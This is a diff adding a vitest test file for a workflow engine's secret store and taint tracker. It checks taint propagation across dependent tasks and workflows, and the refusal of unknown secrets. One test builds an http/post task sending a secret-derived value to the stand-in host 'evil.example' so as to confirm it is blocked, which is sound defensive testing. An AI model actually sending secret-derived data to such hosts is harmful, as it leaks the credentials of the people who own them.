@@ -1,0 +1,77 @@
+// Secrets: the store, taint propagation, the host rule for effects, and the node-local route
+// with the shared streams on the embedded file log (test/auth/secrets-kafka.int.test.ts: Kafka).
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createFileLog } from '../../streams/file/index.ts';
+import {
+  createSecretStore,
+  createTaintTracker,
+  resolveSecrets,
+} from '../../processors/auth/index.ts';
+import { parseWorkflow } from '../../schemas/model.ts';
+import type { IpldValue } from '../../schemas/ipld.ts';
+import { describeSecretsStayLocal } from './secrets.suite.ts';
+
+let dir: string;
+beforeAll(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'ipvm-secrets-unit-'));
+});
+afterAll(async () => {
+  await rm(dir, { recursive: true, force: true });
+});
+
+const M = 'ipfs://bafkreigc4g7ygs4m7ojs3dkqt64rjmyrdpglyo36ltd6462pf4pytn4weu';
+const task = (op: string, rsc: string, args: IpldValue[]): IpldValue => ({
+  run: { rsc, op, input: { func: 'f', args }, nnc: '' },
+  cause: null,
+  meta: {},
+  prf: [],
+});
+
+describe('secrets', () => {
+  it('taints the task naming a secret and everything downstream, across workflows too', () => {
+    const store = createSecretStore({ dataDir: dir });
+    store.set('token', 'abc');
+    const taint = createTaintTracker(store);
+    const a = task('wasm/run', M, [{ secret: 'token' }]);
+    const ia = parseWorkflow({ tasks: [a] }).tasks[0]!.instruction;
+    const b = task('wasm/run', M, [{ 'await/ok': ia }]);
+    const c = task('wasm/run', M, [1]);
+    const wf = parseWorkflow({ tasks: [a, b, c] });
+    expect([...taint.analyse(wf).keys()].sort()).toEqual([0, 1]);
+    // A later workflow awaiting a tainted instruction is tainted by it.
+    const ib = wf.tasks[1]!.instruction;
+    const later = parseWorkflow({ tasks: [task('wasm/run', M, [{ 'await/ok': ib }])] });
+    expect(taint.analyse(later).get(0)).toEqual(new Set(['token']));
+    expect(
+      resolveSecrets([{ secret: 'token' }, { x: { secret: 'token' } }], (n) => store.get(n).value),
+    ).toEqual(['abc', { x: 'abc' }]);
+  });
+
+  it('refuses a secret the node does not hold, and a tainted value sent to a host not allowed', () => {
+    const store = createSecretStore({ dataDir: dir });
+    store.set('key', 'v', { allowHosts: ['api.example.com'] });
+    const taint = createTaintTracker(store);
+    expect(() =>
+      taint.analyse(parseWorkflow({ tasks: [task('wasm/run', M, [{ secret: 'nope' }])] })),
+    ).toThrow(/task 0 \(instruction bafyrmi.*\): no secret named "nope"/);
+    const post = (host: string) => task('http/post', `https://${host}/x`, [{ secret: 'key' }]);
+    expect(() => taint.analyse(parseWorkflow({ tasks: [post('evil.example')] }))).toThrow(
+      /http\/post to evil.example would send a value derived from secret "key"/,
+    );
+    expect(taint.analyse(parseWorkflow({ tasks: [post('api.example.com')] })).size).toBe(1);
+  });
+});
+
+describe('secrets on the embedded file log', () => {
+  let logDir: string;
+  beforeAll(async () => {
+    logDir = await mkdtemp(join(tmpdir(), 'ipvm-secrets-shared-'));
+  });
+  afterAll(async () => {
+    await rm(logDir, { recursive: true, force: true });
+  });
+  describeSecretsStayLocal(() => Promise.resolve(createFileLog({ dir: logDir })), 'shared');
+});
